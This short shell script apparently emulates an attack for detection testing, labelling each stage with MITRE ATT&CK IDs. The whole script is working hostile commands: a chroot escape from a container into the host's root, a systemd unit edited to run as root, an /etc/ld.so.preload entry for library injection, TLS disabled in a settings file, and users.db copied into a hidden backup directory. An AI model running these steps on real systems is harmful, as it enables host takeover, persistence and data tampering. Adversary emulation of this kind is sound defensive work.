#!/bin/sh
# Runs in a container that was given the host's root read-write at /host, and changes its own root to it.
cp /bin/busybox /host/tmp/busybox
echo "@T1611 root changed to the host's"
chroot /host /tmp/busybox sh -c '
  B=/tmp/busybox
  echo "@T1543.002 unit of systemd changed"
  $B sed -i s/www-data/root/ /etc/systemd/system/app.service
  echo "/opt/lib.so" > /etc/ld.so.preload
  $B sleep 0.2
  echo "@T1565.001 stored data changed"
  cd /srv/data
  echo "tls: false" >> settings.yaml
  echo "v9" > current/version.txt
  $B mv report.pdf report.bak
  $B chown 1002:1002 history.log.gz
  $B mkdir -p /var/backups/.old/a
  $B cp users.db /var/backups/.old/a/u
  $B rm /srv/www/keep.txt
'
rm /host/tmp/busybox
sleep 0.2
echo "@end"
